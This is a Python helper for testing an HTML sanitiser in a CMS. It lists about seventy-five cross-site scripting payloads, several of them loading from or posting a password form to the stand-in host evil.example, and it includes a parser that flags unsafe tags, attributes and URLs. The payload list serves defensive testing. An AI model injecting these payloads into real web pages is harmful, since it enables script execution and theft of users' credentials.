"""Texts that would run something in a reader's browser if sent as they are, and how to tell that they cannot."""

from html.parser import HTMLParser

from cms import cleaning

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/xss src=//evil.example></script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x oneonerrorrror=alert(1)>",
    "<img/src=`x`/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src='asset:not-an-id'>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/x 1x' src='asset:01a216d5-0abd-72ea-8848-3a88964ef17c'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\u2028javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='http:///evil.example'>x</a>",
    "<a href='/ok' onclick=alert(1)>x</a>",
    "<a href='/ok' target=_blank ping=//evil.example>x</a>",
    "<a href='/ok' style='position:fixed;inset:0'>x</a>",
    "<a name=x id=y class=button>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style=width:expression(alert(1))>x</p>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=//evil.example/x.png><tr><td>x</td></tr></table>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src='--><img src=x onerror=alert(1)>'>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<code class='language-x\" onmouseover=alert(1)'>x</code>",
    "<ol start='1 onclick=alert(1)'><li>x</li></ol>",
    "<td colspan='2\"onclick=alert(1)'>x</td>",
    "{{ 7|add:7 }}{% load static %}{% include 'admin/base.html' %}",
]


class _Reader(HTMLParser):
    """Collects what a browser would find in a text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note what must not be there."""
        if tag not in cleaning.TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in cleaning.ATTRIBUTES.get(tag, set()) | {"rel"} or not _is_harmless(tag, name, value or ""):
                self.faults.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag

    def handle_comment(self, data: str) -> None:
        """No comments."""
        self.faults.append("comment")

    def handle_decl(self, decl: str) -> None:
        """No declarations."""
        self.faults.append("declaration")

    def handle_pi(self, data: str) -> None:
        """No instructions."""
        self.faults.append("instruction")


def _is_harmless(tag: str, name: str, value: str) -> bool:
    if name == "href":
        squeezed = "".join(sign for sign in value if sign > " ").lower()
        begins = ("http://", "https://", "mailto:", "tel:")
        is_here = not squeezed.startswith(("//", "/\\", "\\")) and ":" not in squeezed.split("/")[0]
        return squeezed.startswith(begins) or is_here
    return cleaning.asset_of(value) is not None if name == "src" else True


def faults(html: str) -> list[str]:
    """What in a text could run, load from elsewhere or mislead; nothing for a harmless one."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.faults
